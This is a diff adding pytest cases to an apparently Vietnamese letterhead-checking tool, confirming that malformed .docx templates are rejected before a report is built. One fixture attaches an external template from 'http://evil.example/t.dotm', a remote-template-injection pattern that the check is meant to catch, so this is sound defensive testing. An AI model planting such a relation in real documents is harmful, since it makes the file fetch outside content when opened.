@@ -163,6 +163,36 @@ def test_the_words_need_a_paragraph_of_their_own() -> None:
             check_letterhead("letterhead.docx", page(change))
 
 
+def without_size(file: DocumentFile) -> None:
+    file.element.body.remove(file.element.body.sectPr)
+
+
+def with_template(file: DocumentFile) -> None:
+    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    file.part.relate_to("http://evil.example/t.dotm", relation, is_external=True)
+
+
+def with_statement(file: DocumentFile) -> None:
+    file.add_paragraph("{%- raw -%}{{ x }}{% endraw %}")
+
+
+@pytest.mark.parametrize(
+    ("change", "fault"),
+    [
+        (without_size, "không có khổ giấy, lề trang"),
+        (with_template, "tự lấy nội dung từ nơi khác khi mở"),
+        (with_statement, "không ghi điều kiện hay phép tính"),
+    ],
+)
+def test_a_letterhead_by_which_no_report_can_be_written_is_told_before_one_is(
+    change: Callable[[DocumentFile], object], fault: str
+) -> None:
+    with pytest.raises(LetterheadError, match=fault):
+        check_letterhead("letterhead.docx", page(change))
+    with pytest.raises(LetterheadError, match=fault):
+        report(page(change))
+
+
 def test_what_is_no_word_file_is_told_so() -> None:
     for content in (b"", b"PK\x03\x04 hong", b"%PDF-1.7"):
         with pytest.raises(LetterheadError, match="không mở được; hãy lưu lại từ Word"):
